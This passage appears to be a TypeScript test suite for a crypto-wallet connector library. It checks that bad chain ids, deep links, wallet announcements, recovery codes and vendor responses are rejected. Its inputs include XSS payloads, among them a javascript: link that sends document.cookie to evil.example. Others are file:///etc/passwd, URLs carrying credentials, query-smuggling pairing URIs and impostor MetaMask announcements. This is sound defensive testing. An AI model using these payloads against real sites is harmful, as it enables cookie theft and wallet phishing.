        expect(String(error.shortMessage).length).toBeLessThan(300),
    },
  }),
  bad({
    source: 'CAIP accounts and chain ids',
    name: 'an object without a prototype (from a parsed payload)',
    input: Object.create(null) as unknown,
    run: parseCaipAccount,
    expected: {
      throws: 'InvalidCaipAccountError',
      messageIncludes: 'not a string',
    },
  }),
  bad({
    source: 'CAIP accounts and chain ids',
    name: 'a chain id that is a number',
    input: 1,
    run: parseCaipChainId,
    expected: {
      throws: 'InvalidCaipChainIdError',
      message: 'Invalid CAIP-2 chain id "1": not a string.',
    },
  }),
  bad({
    source: 'CAIP accounts and chain ids',
    name: 'chain 0',
    input: 'eip155:0',
    run: parseCaipChainId,
    expected: {
      throws: 'InvalidCaipChainIdError',
      messageIncludes: 'a decimal chain id without leading zeros',
    },
  }),
  bad({
    source: 'CAIP accounts and chain ids',
    name: 'a hex chain reference',
    input: 'eip155:0x1',
    run: parseCaipChainId,
    expected: {
      throws: 'InvalidCaipChainIdError',
      messageIncludes: 'a decimal chain id without leading zeros',
    },
  }),
  bad({
    source: 'CAIP accounts and chain ids',
    name: 'no namespace',
    input: ':1',
    run: parseCaipChainId,
    expected: {
      throws: 'InvalidCaipChainIdError',
      messageIncludes: 'the namespace must be 3 to 8 lowercase letters',
    },
  }),
  bad({
    source: 'CAIP accounts and chain ids',
    name: 'a Solana network name instead of its genesis hash',
    input: 'solana:mainnet',
    run: parseCaipChainId,
    expected: {
      throws: 'InvalidCaipChainIdError',
      messageIncludes: 'genesis hash',
    },
  }),
  bad({
    source: 'CAIP accounts and chain ids',
    name: 'a prototype key as the namespace',
    input: '__proto__:1',
    run: parseCaipChainId,
    expected: {
      throws: 'InvalidCaipChainIdError',
      messageIncludes: 'the namespace must be',
    },
  }),
  bad({
    source: 'CAIP accounts and chain ids',
    name: 'a fractional eip155 reference given to formatCaipChainId',
    input: 1.5,
    run: (reference) => formatCaipChainId({ namespace: 'eip155', reference }),
    expected: {
      throws: 'InvalidCaipChainIdError',
      message:
        'Invalid CAIP-2 chain id "eip155:1.5": the eip155 reference must be a decimal chain id without leading zeros.',
    },
  }),

  // --- requested chain ids -------------------------------------------------
  bad({
    source: 'requested chain ids',
    name: 'passkeyWallet connect to a chain outside the config',
    input: 10,
    run: (chainId) => passkeyConnector().connect({ chainId }),
    expected: {
      throws: 'ChainNotConfiguredError',
      message: 'Could not find network mapping for chain',
    },
  }),
  bad({
    source: 'requested chain ids',
    name: 'passkeyWallet switch to NaN',
    input: Number.NaN,
    run: (chainId) => passkeyConnector().switchChain!({ chainId }),
    expected: {
      throws: 'ChainNotConfiguredError',
      message: 'Could not find network mapping for chain',
    },
  }),
  bad({
    source: 'requested chain ids',
    name: 'walletConnectDeepLink connect to a chain outside the config',
    input: 10,
    run: (chainId) => walletConnectConnector().connect({ chainId }),
    expected: {
      throws: 'ChainNotConfiguredError',
      message: 'Could not find network mapping for chain',
    },
  }),
  bad({
    source: 'requested chain ids',
    name: 'injectedWallet switch to a negative chain id',
    input: -1,
    run: async (chainId) => {
      announceInPage(announcement({ rdns: 'io.rabby', name: 'Rabby' }))
      const { injectedWallet } = await freshInjected()
      return hostConfig([injectedWallet({ wallet: 'rabby' })]).connectors[0]!
        .switchChain!({ chainId })
    },
    expected: {
      throws: 'ChainNotConfiguredError',
      message: 'Could not find network mapping for chain',
    },
  }),

  // --- pairing links -------------------------------------------------------
  bad({
    source: 'pairing links',
    name: 'no wallet links at all',
    input: undefined,
    run: (wallet) => toPairingLinks(pairingUri, { wallet }),
    expected: refusedDeepLink,
  }),
  bad({
    source: 'pairing links',
    name: 'a host wallet whose app link is javascript: (its scheme passed along)',
    input: { native: 'javascript:alert(document.cookie)//' },
    run: (wallet) =>
      toPairingLinks(pairingUri, { wallet, extraSchemes: ['javascript:'] }),
    expected: refusedDeepLink,
  }),
  bad({
    source: 'pairing links',
    name: 'a data: app link',
    input: { native: 'data:text/html,<script>alert(1)</script>' },
    run: (wallet) =>
      toPairingLinks(pairingUri, { wallet, extraSchemes: ['data:'] }),
    expected: refusedDeepLink,
  }),
  bad({
    source: 'pairing links',
    name: 'a universal link on plain http://',
    input: { universal: 'http://wallet.example' },
    run: (wallet) =>
      toPairingLinks(pairingUri, { wallet, preference: 'universal' }),
    expected: refusedDeepLink,
  }),
  bad({
    source: 'pairing links',
    name: 'a universal link carrying credentials',
    input: { universal: 'https://user:secret@wallet.example' },
    run: (wallet) =>
      toPairingLinks(pairingUri, { wallet, preference: 'universal' }),
    expected: refusedDeepLink,
  }),
  bad({
    source: 'pairing links',
    name: 'an Android intent:// link',
    input: { native: 'intent://scan/#Intent;scheme=evil;end' },
    run: (wallet) => toPairingLinks(pairingUri, { wallet }),
    expected: refusedDeepLink,
  }),
  bad({
    source: 'pairing links',
    name: 'a pairing URI with &, # and ? in it',
    input: 'wc:abc@2?symKey=1&relay-protocol=irn#&uri=javascript:alert(1)',
    run: (uri) =>
      toPairingLinks(uri, { wallet: walletRegistry.trust.walletConnect }),
    expected: {
      ignored: 'carried whole, encoded, as the one uri parameter',
      check: ({ qr, deepLink }) => {
        const link = new URL(deepLink!)
        expect(link.protocol).toBe('trust:')
        expect([...link.searchParams.keys()]).toEqual(['uri'])
        expect(link.searchParams.get('uri')).toBe(qr)
        expect(link.hash).toBe('')
      },
    },
  }),
  bad({
    source: 'pairing links',
    name: 'a request link for a topic with & in it',
    input: `${walletConnectTopic}&uri=javascript:alert(1)`,
    run: (topic) => ({ topic, link: toRequestLink('trust://', topic) }),
    expected: {
      ignored: 'the topic stays the one sessionTopic parameter',
      check: ({ topic, link }) => {
        const url = new URL(link)
        expect([...url.searchParams.keys()]).toEqual(['sessionTopic'])
        expect(url.searchParams.get('sessionTopic')).toBe(topic)
      },
    },
  }),
  bad({
    source: 'pairing links',
    name: 'JavaScript: in mixed case',
    input: 'JavaScript:alert(1)',
    run: (link) => isAllowedDeepLink(link),
    expected: notAllowed,
  }),
  bad({
    source: 'pairing links',
    name: 'javascript: split by a tab and a newline',
    input: ' java\tscr\nipt:alert(1)',
    run: (link) => isAllowedDeepLink(link),
    expected: notAllowed,
  }),
  bad({
    source: 'pairing links',
    name: 'file: even when a host names it',
    input: 'file:///etc/passwd',
    run: (link) => isAllowedDeepLink(link, ['file:']),
    expected: notAllowed,
  }),
  bad({
    source: 'pairing links',
    name: 'a link that is not a string',
    input: undefined,
    run: (link) => isAllowedDeepLink(link as never),
    expected: notAllowed,
  }),

  // --- peer metadata redirects (the wallet's own claim, no host schemes) ---
  bad({
    source: 'peer metadata redirects',
    name: 'a javascript: native redirect',
    input: { native: 'javascript:fetch("//evil.example?c="+document.cookie)' },
    run: peerLink,
    expected: refusedLink,
  }),
  bad({
    source: 'peer metadata redirects',
    name: 'an app scheme of no registered wallet',
    input: { native: 'evilapp://steal' },
    run: peerLink,
    expected: refusedLink,
  }),
  bad({
    source: 'peer metadata redirects',
    name: 'a redirect that is a number',
    input: { native: 42, universal: { href: 'https://wallet.example' } },
    run: peerLink,
    expected: refusedLink,
  }),
  bad({
    source: 'peer metadata redirects',
    name: 'a universal redirect on plain http://',
    input: { universal: 'http://wallet.example/wc' },
    run: peerLink,
    expected: refusedLink,
  }),
  bad({
    source: 'peer metadata redirects',
    name: 'no redirect metadata',
    input: undefined,
    run: peerLink,
    expected: refusedLink,
  }),
  bad({
    source: 'peer metadata redirects',
    name: 'a bad native redirect beside a good universal one',
    input: { native: 'vbscript:msgbox', universal: 'https://wallet.example' },
    run: peerLink,
    expected: {
      ignored: 'the bad link is skipped for the good one',
      check: (link) => expect(link).toBe('https://wallet.example'),
    },
  }),

  // --- EIP-6963 announcements ----------------------------------------------
  bad({
    source: 'EIP-6963 announcements',
    name: 'an announcement without info',
    input: { provider: walletProvider() },
    run: discover,
    expected: noConnector,
  }),
  bad({
    source: 'EIP-6963 announcements',
    name: 'an announcement without a provider',
    input: { info: announcement().info },
    run: discover,
    expected: noConnector,
  }),
  bad({
    source: 'EIP-6963 announcements',
    name: 'a provider whose request is not a function',
    input: announcement({}, { request: 'eth_requestAccounts' }),
    run: discover,
    expected: noConnector,
  }),
  bad({
    source: 'EIP-6963 announcements',
    name: 'an announcement with a null detail',
    input: null,
    run: discover,
    expected: noConnector,
  }),
  bad({
    source: 'EIP-6963 announcements',
    name: 'an rdns that is a number',
    input: announcement({ rdns: 42 }),
    run: discover,
    expected: noConnector,
  }),
  bad({
    source: 'EIP-6963 announcements',
    name: 'an empty rdns',
    input: announcement({ rdns: '' }),
    run: discover,
    expected: noConnector,
  }),
  bad({
    source: 'EIP-6963 announcements',
    name: 'an empty name',
    input: announcement({ name: '' }),
    run: discover,
    expected: noConnector,
  }),
  bad({
    source: 'EIP-6963 announcements',
    name: 'a provider without on/removeListener',
    input: announcement({}, { request: walletProvider().request }),
    run: discover,
    expected: noConnector,
  }),
  bad({
    source: 'EIP-6963 announcements',
    name: 'an impostor announcing MetaMask’s rdns',
    input: announcement({ rdns: 'io.metamask', name: 'Totally Legit' }),
    run: discover,
    expected: noConnector,
  }),
  bad({
    source: 'EIP-6963 announcements',
    name: 'an impostor named MetaMask under its own rdns',
    input: announcement({ rdns: 'com.evil.wallet', name: 'MetaMask' }),
    run: discover,
    expected: noConnector,
  }),
  bad({
    source: 'EIP-6963 announcements',
    name: 'an impostor named " Coinbase Wallet " (padded)',
    input: announcement({ rdns: 'com.evil.cb', name: ' Coinbase Wallet ' }),
    run: discover,
    expected: noConnector,
  }),
  bad({
    source: 'EIP-6963 announcements',
    name: 'an icon that is not a string',
    input: announcement({ icon: { src: 'https://evil.example/x.png' } }),
    run: discover,
    expected: oneConnectorWithoutIcon,
  }),
  bad({
    source: 'EIP-6963 announcements',
    name: 'an icon on plain http:// (a tracking pixel)',
    input: announcement({ icon: 'http://tracker.example/pixel.png' }),
    run: discover,
    expected: oneConnectorWithoutIcon,
  }),
  bad({
    source: 'EIP-6963 announcements',
    name: 'a javascript: icon',
    input: announcement({ icon: 'javascript:alert(1)' }),
    run: discover,
    expected: oneConnectorWithoutIcon,
  }),
  bad({
    source: 'EIP-6963 announcements',
    name: 'a 2 MB icon',
    input: announcement({
      icon: `data:image/png;base64,${'A'.repeat(2 * 1024 * 1024)}`,
    }),
    run: discover,
    expected: {
      ignored: 'one connector; createConfig unharmed',
      check: ({ connectors }) => {
        expect(connectors).toHaveLength(1)
        expect(connectors[0]!.id).toBe('com.acme.wallet')
      },
    },
  }),
  bad({
    source: 'EIP-6963 announcements',
    name: 'a second provider under a known uuid (claiming Rabby)',
    input: (() => {
      const first = announcement()
      const second = announcement(
        { uuid: first.info.uuid, rdns: 'io.rabby', name: 'Rabby' },
        walletProvider(),
      )
      return [first, second] as const
    })(),
    run: async ([first, second]) => {
      const { listed, connectors } = await discover(first, second)
      return {
        listed,
        ids: connectors.map((connector) => connector.id),
        provider: await connectors[0]?.getProvider(),
        first: first.provider,
      }
    },
    expected: {
      ignored: 'the first kept, the second dropped',
      check: ({ listed, ids, provider, first }) => {
        expect(listed).toHaveLength(1)
        expect(ids).toEqual(['com.acme.wallet'])
        expect(provider).toBe(first)
      },
    },
  }),
  bad({
    source: 'EIP-6963 announcements',
    name: 'one wallet announced twice under two uuids',
    input: [announcement(), announcement()],
    run: (details) => discover(...details),
    expected: {
      ignored: 'one connector',
      check: ({ connectors }) =>
        expect(connectors.map((connector) => connector.id)).toEqual([
          'com.acme.wallet',
        ]),
    },
  }),
  bad({
    source: 'EIP-6963 announcements',
    name: 'a legacy window.ethereum flagged isMetaMask beside TokenPocket’s flag',
    input: { ...walletProvider(), isMetaMask: true, isTokenPocket: true },
    run: async (impostor) => {
      ;(window as { ethereum?: unknown }).ethereum = impostor
      const { injectedWallet } = await freshInjected()
      const connector = hostConfig([injectedWallet({ wallet: 'metamask' })])
        .connectors[0] as Connector & { isInstalled(): boolean }
      expect(connector.isInstalled()).toBe(false)
      return connector.connect()
    },
    expected: { throws: 'ProviderNotFoundError', message: 'No provider found' },
  }),

  // --- browse links --------------------------------------------------------
  bad({
    source: 'browse links',
    name: 'a javascript: page',
    input: 'javascript:alert(document.cookie)',
    run: (page) => toBrowseLink(walletRegistry.metamask, page),
    expected: refusedLink,
  }),
  bad({
    source: 'browse links',
    name: 'a data: page',
    input: 'data:text/html,<h1>Sign in</h1>',
    run: (page) => toBrowseLink(walletRegistry.coinbase, page),
    expected: refusedLink,
  }),
  bad({
    source: 'browse links',
    name: 'a page URL with credentials',
    input: 'https://alice:secret@shop.example/',
    run: (page) => toBrowseLink(walletRegistry.trust, page),
    expected: refusedLink,
  }),
  bad({
    source: 'browse links',
    name: 'a file: page',
    input: 'file:///C:/Users/alice/wallet.html',
    run: (page) => toBrowseLink(walletRegistry.phantom, page),
    expected: refusedLink,
  }),
  bad({
    source: 'browse links',
    name: 'a relative page URL',
    input: '/checkout?step=2',
    run: (page) => toBrowseLink(walletRegistry.metamask, page),
    expected: refusedLink,
  }),
  bad({
    source: 'browse links',
    name: 'a wallet with no browse template',
    input: 'https://shop.example/',
    run: (page) => toBrowseLink(walletRegistry.rabby, page),
    expected: refusedLink,
  }),
  bad({
    source: 'browse links',
    name: 'a page URL with quotes, markup, & and #',
    input: 'https://shop.example/p?q=a&b="<script>"#x',
    run: (page) => ({
      page,
      link: toBrowseLink(walletRegistry.coinbase, page),
    }),
    expected: {
      ignored: 'the page is carried encoded, as the one cb_url parameter',
      check: ({ page, link }) => {
        const url = new URL(link!)
        expect(url.origin).toBe('https://go.cb-w.com')
        expect([...url.searchParams.keys()]).toEqual(['cb_url'])
        expect(url.searchParams.get('cb_url')).toBe(new URL(page).href)
      },
    },
  }),
  bad({
    source: 'browse links',
    name: 'a page path that looks like another host',
    input: 'https://shop.example/@evil.example//evil.example/',
    run: (page) => toBrowseLink(walletRegistry.metamask, page),
    expected: {
      ignored: 'the link still opens MetaMask’s own host',
      check: (link) => expect(new URL(link!).host).toBe('link.metamask.io'),
    },
  }),
  bad({
    source: 'browse links',
    name: 'a phone without MetaMask on a page URL with credentials',
    input: 'https://alice:secret@shop.example/checkout',
    run: async (page) => {
      ;(
        window as unknown as { happyDOM: { setURL(url: string): void } }
      ).happyDOM.setURL(page)
      vi.stubGlobal('navigator', { userAgent: iPhone, maxTouchPoints: 5 })
      const assign = vi
        .spyOn(window.location, 'assign')
        .mockImplementation(() => undefined)
      const { injectedWallet } = await freshInjected()
      const connector = hostConfig([injectedWallet({ wallet: 'metamask' })])
        .connectors[0]!
      try {
        return await connector.connect()
      } finally {
        expect(assign).not.toHaveBeenCalled()
      }
    },
    expected: { throws: 'ProviderNotFoundError', message: 'No provider found' },
  }),

  // --- recovery codes ------------------------------------------------------
  bad({
    source: 'recovery codes',
    name: 'a code that names no user',
    input: { ...emailCredential, userId: '' },
    run: (credential) =>
      validateRecoveryCode({
        recoveryType: 'email',
        credential,
        nowSeconds: now,
      }),
    expected: codeInvalid,
  }),
  bad({
    source: 'recovery codes',
    name: 'a code that names no organization',
    input: { ...emailCredential, organizationId: undefined },
    run: (credential) =>
      validateRecoveryCode({
        recoveryType: 'email',
        credential,
        nowSeconds: now,
      }),
    expected: codeInvalid,
  }),
  bad({
    source: 'recovery codes',
    name: 'an API-key credential used for passkey recovery',
    input: { ...emailCredential, type: 'CREDENTIAL_TYPE_API_KEY_P256' },
    run: (credential) =>
      validateRecoveryCode({
        recoveryType: 'passkey',
        credential,
        nowSeconds: now,
      }),
    expected: codeInvalid,
  }),
  bad({
    source: 'recovery codes',
    name: 'a code 900 s old',
    input: { ...emailCredential, createdAt: now - 900 },
    run: (credential) =>
      validateRecoveryCode({
        recoveryType: 'email',
        credential,
        nowSeconds: now,
      }),
    expected: codeInvalid,
  }),
  bad({
    source: 'recovery codes',
    name: 'a credential whose creation time is not a number',
    input: { ...emailCredential, createdAt: Number.NaN },
    run: (credential) =>
      validateRecoveryCode({
        recoveryType: 'email',
        credential,
        nowSeconds: now,
      }),
    expected: codeInvalid,
  }),
  bad({
    source: 'recovery codes',
    name: 'a recovery type the pack does not have',
    input: 'sms',
    run: (recoveryType) =>
      validateRecoveryCode({
        recoveryType: recoveryType as RecoveryType,
        credential: emailCredential,
        nowSeconds: now,
      }),
    expected: codeInvalid,
  }),
  bad({
    source: 'recovery codes',
    name: 'an empty code',
    input: '',
    run: decodeCredentialBundle,
    expected: notABundle,
  }),
  bad({
    source: 'recovery codes',
    name: 'a hex string instead of base58',
    input: `0x${'deadbeef'.repeat(20)}`,
    run: decodeCredentialBundle,
    expected: notABundle,
  }),
  bad({
    source: 'recovery codes',
    name: 'characters base58 leaves out (0, O, I, l)',
    input: 'O0Il'.repeat(29),
    run: decodeCredentialBundle,
    expected: notABundle,
  }),
  bad({
    source: 'recovery codes',
    name: 'a real code cut short by five characters',
    input: 5,
    run: async (cut) => {
      const page = await generateRecipientKey()
      return decodeCredentialBundle(
        sealRecoveryCode(recoveryKey().secret, page.publicKeyHex).slice(
          0,
          -cut,
        ),
      )
    },
    expected: notABundle,
  }),
  bad({
    source: 'recovery codes',
    name: 'a well-formed bundle whose key is no P-256 point',
    input: offCurveBundle,
    run: decodeCredentialBundle,
    expected: notABundle,
  }),
  bad({
    source: 'recovery codes',
    name: 'a code that is not a string (an empty form field)',
    input: undefined,
    run: (code) => decodeCredentialBundle(code as never),
    expected: notABundle,
  }),
  bad({
    source: 'recovery codes',
    name: 'a 40 KB paste',
    input: 'z'.repeat(40_000),
    run: (code) => {
      const started = performance.now()
      const decoded = decodeCredentialBundle(code)
      return { decoded, ms: performance.now() - started }
    },
    expected: {
      ignored: 'not a bundle, refused at once (the page stays responsive)',
      check: ({ decoded, ms }) => {
        expect(decoded).toBeUndefined()
        expect(ms).toBeLessThan(100)
      },
    },
  }),
  bad({
    source: 'recovery codes',
    name: 'a code sealed to another page’s key',
    input: 'another page',
    run: async () => {
      const [page, other] = await Promise.all([
        generateRecipientKey(),
        generateRecipientKey(),
      ])
      return decryptCredentialBundle(
        sealRecoveryCode(recoveryKey().secret, other.publicKeyHex),
        page,
      )
    },
    expected: codeInvalid,
  }),

  // --- vendor responses ----------------------------------------------------
  bad({
    source: 'vendor responses',
    name: 'a 200 answer that is an HTML page (a captive portal)',
    input: '<html><body>Sign in to Wi-Fi</body></html>',
    run: (body) => vendorClient(200, body).query('whoami', {}, stamper),
    expected: {
      throws: 'VendorRequestError',
      message: '200 response was not JSON',
    },
  }),
  bad({
    source: 'vendor responses',
    name: 'a 502 with an HTML body',
    input: '<html>Bad gateway</html>',
    run: (body) =>
      vendorClient(502, body, 'Bad Gateway').query('whoami', {}, stamper),
    expected: {
      throws: 'VendorRequestError',
      message: '502 Bad Gateway',
      also: (error) => expect(error.status).toBe(502),
    },
  }),
  bad({
    source: 'vendor responses',
    name: 'an error body whose code and message have the wrong types',
    input: JSON.stringify({ code: 'three', message: 42, details: 'x' }),
    run: (body) =>
      vendorClient(400, body, 'Bad Request').query('whoami', {}, stamper),
    expected: {
      throws: 'VendorRequestError',
      message: '400 Bad Request',
      also: (error) => {
        expect(error.code).toBe(400)
        expect(error.vendorDetails).toBeUndefined()
      },
    },
  }),
  bad({
    source: 'vendor responses',
    name: 'an expired session key (SPEC §8: a warning, not an error)',
    input: JSON.stringify({
      code: 16,
      message: 'expired api key',
      details: [],
    }),
    run: (body) =>
      vendorClient(401, body, 'Unauthorized').query('whoami', {}, stamper),
    expected: {
      throws: 'VendorRequestError',
      message: 'expired api key',
      also: (error) => {
        expect(error.vendorCode).toBe(16)
        expect(console.warn).toHaveBeenCalledOnce()
        expect(console.error).not.toHaveBeenCalled()
      },
    },
  }),
  bad({
    source: 'vendor responses',
    name: 'an activity answer without an activity',
    input: '{}',
    run: (body) =>
      vendorClient(200, body).submit(
        'sign_raw_payload',
        signRawPayload,
        stamper,
      ),
    expected: { throws: 'VendorRequestError' },
  }),
  bad({
    source: 'vendor responses',
    name: 'an activity answer that is JSON null',
    input: 'null',
    run: (body) =>
      vendorClient(200, body).submit(
        'sign_raw_payload',
        signRawPayload,
        stamper,
      ),
    expected: { throws: 'VendorRequestError' },
  }),
  bad({
    source: 'vendor responses',
    name: 'an activity waiting for consensus',
    input: JSON.stringify({
      activity: { id: 'act-1', status: 'ACTIVITY_STATUS_CONSENSUS_NEEDED' },
    }),
    run: (body) =>
      vendorClient(200, body).submit(
        'sign_raw_payload',
        signRawPayload,
        stamper,
      ),
    expected: {
      throws: 'VendorConsensusNeededError',
      message: 'Activity requires consensus',
    },
  }),
  bad({
    source: 'vendor responses',
    name: 'a failed activity',
    input: JSON.stringify({
      activity: { id: 'act-1', status: 'ACTIVITY_STATUS_FAILED' },
    }),
    run: (body) =>
      vendorClient(200, body).submit(
        'sign_raw_payload',
        signRawPayload,
        stamper,
      ),
    expected: {
      throws: 'VendorActivityError',
      message: 'Expected COMPLETED status',
    },
  }),
  bad({
    source: 'vendor responses',
    name: 'a completed activity without its result',
    input: JSON.stringify({
      activity: { id: 'act-1', status: 'ACTIVITY_STATUS_COMPLETED' },
    }),
    run: (body) =>
      vendorClient(200, body).submit(
        'sign_raw_payload',
        signRawPayload,
        stamper,
      ),
    expected: {
      throws: 'VendorActivityError',
      message: 'Expected COMPLETED status',
    },
  }),
  bad({
    source: 'vendor responses',
    name: 'a session token that is not a JWT',
    input: 'not-a-jwt',
    run: readSessionClaims,
    expected: {
      throws: 'VendorRequestError',
      message: '200 malformed session token',
    },
  }),
  bad({
    source: 'vendor responses',
    name: 'a session token whose payload is null',
    input: sessionToken('null'),
    run: readSessionClaims,
    expected: {
      throws: 'VendorRequestError',
      message: '200 malformed session token',
    },
  }),
  bad({
    source: 'vendor responses',
    name: 'a session token whose expiry is a string',
    input: sessionToken(
      JSON.stringify({
        exp: '1800000000',
        organization_id: subOrganizationId,
        user_id: 'user-1',
      }),
    ),
    run: readSessionClaims,
    expected: {
      throws: 'VendorRequestError',
      message: '200 malformed session token',
    },
  }),
  bad({
    source: 'vendor responses',
    name: 'a signature result without r, s and v',
    input: {},
    run: (result) => vendorAccount(result).signMessage({ message: 'hello' }),
    expected: { throws: 'VendorRequestError' },
  }),
  bad({
    source: 'vendor responses',
    name: 'a signature result that is not hex',
    input: { r: 'zz', s: 'zz', v: '00' },
    run: (result) => vendorAccount(result).signMessage({ message: 'hello' }),
    expected: { throws: 'VendorRequestError' },
  }),
  bad({
    source: 'vendor responses',
    name: 'a signed transaction that is a number',
    input: { signedTransaction: 42 },
    run: (result) =>
      vendorAccount(result).signTransaction({
        chainId: 1,
        to: alice,
        value: 1n,
        nonce: 0,
        gas: 21_000n,
        maxFeePerGas: 1n,
        maxPriorityFeePerGas: 1n,
      }),
    expected: { throws: 'VendorRequestError' },
  }),
  bad({
    source: 'vendor responses',
    name: 'recovery: whoami answers JSON null',
    input: null,
    run: (answer) =>
      submitCodeAgainst({ whoami: answer, user: () => ({ user: undefined }) }),
    expected: codeInvalid,
  }),
  bad({
    source: 'vendor responses',
    name: 'recovery: get_user without an apiKeys list',
    input: { user: { userId: 'user-1', userName: 'Alice' } },
    run: (answer) => submitCodeAgainst({ whoami, user: () => answer }),
    expected: codeInvalid,
  }),
  bad({
    source: 'vendor responses',
    name: 'recovery: the code’s key listed without a creation time',
    input: 'no createdAt',
    run: () =>
      submitCodeAgainst({
        whoami,
        user: (publicKey) => ({
          user: {
            userId: 'user-1',
            userName: 'Alice',
            apiKeys: [
              {
                credential: { publicKey, type: 'CREDENTIAL_TYPE_API_KEY_P256' },
              },
            ],
          },
        }),
      }),
    expected: codeInvalid,
  }),
  bad({
    source: 'vendor responses',
    name: 'recovery: the key’s creation time is not a number',
    input: 'soon',
    run: (seconds) =>
      submitCodeAgainst({
        whoami,
        user: (publicKey) => listedKey(publicKey, seconds),
      }),
    expected: codeInvalid,
  }),
  bad({
    source: 'vendor responses',
    name: 'recovery: get_user without a user',
    input: {},
    run: (answer) => submitCodeAgainst({ whoami, user: () => answer }),
    expected: codeInvalid,
  }),
]

/** A result, short enough for a failure message. */
function shown(value: unknown) {
  try {
    const text = JSON.stringify(value, (_, inner) =>
      typeof inner === 'bigint' ? `${inner}n` : inner,
    )
    return (text ?? String(value)).slice(0, 200)
  } catch {
    return Object.prototype.toString.call(value)
  }
}

afterEach(() => {
  stopAnnouncing()
  Reflect.deleteProperty(window, 'ethereum')
  removeWebauthn()
  vi.unstubAllGlobals()
  vi.restoreAllMocks()
  ;(
    window as unknown as { happyDOM: { setURL(url: string): void } }
  ).happyDOM.setURL(originalUrl)
})

it.each(
  cases.map((entry) => [`${entry.source}: ${entry.name}`, entry] as const),
)(
  '%s',
  async (name, { input, run, expected }) => {
    let result: unknown
    let error: unknown
    tally('badInput', name)
    try {
      result = await run(input)
    } catch (thrown) {
      error = thrown
    }
    if ('throws' in expected) {
      expect(
        error,
        `expected ${expected.throws}, but it gave ${shown(result)}`,
      ).toBeInstanceOf(Error)
      const thrown = error as ThrownError
      // The pack's own error, not a TypeError from deep inside.
      expect(thrown.name, `${thrown.name}: ${thrown.message}`).toBe(
        expected.throws,
      )
      expect(thrown.version).toMatch(/^wagmi-connector-pack@/)
      if (expected.message !== undefined)
        expect(thrown.shortMessage).toBe(expected.message)
      if (expected.messageIncludes !== undefined)
        expect(thrown.shortMessage).toContain(expected.messageIncludes)
      await expected.also?.(thrown)
    } else {
      expect(error, 'expected it to be ignored safely').toBeUndefined()
      await expected.check(result)
    }
  },
  30_000,
)
